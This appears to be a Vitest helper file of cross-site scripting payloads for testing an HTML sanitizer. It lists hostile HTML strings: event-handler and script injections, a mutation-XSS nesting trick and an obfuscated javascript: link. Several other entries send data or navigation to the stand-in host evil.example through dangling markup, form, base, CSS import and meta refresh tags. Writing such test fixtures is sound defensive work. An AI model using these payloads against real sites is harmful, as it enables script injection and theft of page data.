import { inject } from 'vitest';
import { z } from 'zod';

declare module 'vitest' {
  interface ProvidedContext {
    /** The list of others as encoded JSON, where the project is checked; see vitest.config.ts. */
    xssPayloads: string;
  }
}

export function listedPayloads(): string[] {
  return z.array(z.string()).parse(JSON.parse(decodeURIComponent(inject('xssPayloads'))));
}

/** What goes wrong most often, in our own words. */
export const OWN_PAYLOADS: readonly string[] = [
  '<img src=x onerror="window.__pwn=1">',
  '<p onclick="window.__pwn=1">words</p>',
  '<svg><script>window.__pwn=1</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__pwn=1&gt;">',
  '<a href="jav&#x09;ascript:window.__pwn=1">x</a>',
  '<form action="https://evil.example"><input name=attributes></form>',
  '<base href="https://evil.example/"><a href="/x">x</a>',
  '<style>@import "https://evil.example/a.css"</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<p id="createElement"><a name="body" href="https://ok.example">x</a></p>',
  "<img src='https://evil.example/?",
  '<img src="data:image/svg+xml,<svg onload=window.__pwn=1>">',
  '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>',
  '<p style="background:url(https://evil.example/a.png)" onclick="window.__pwn=1">x</p>',
];
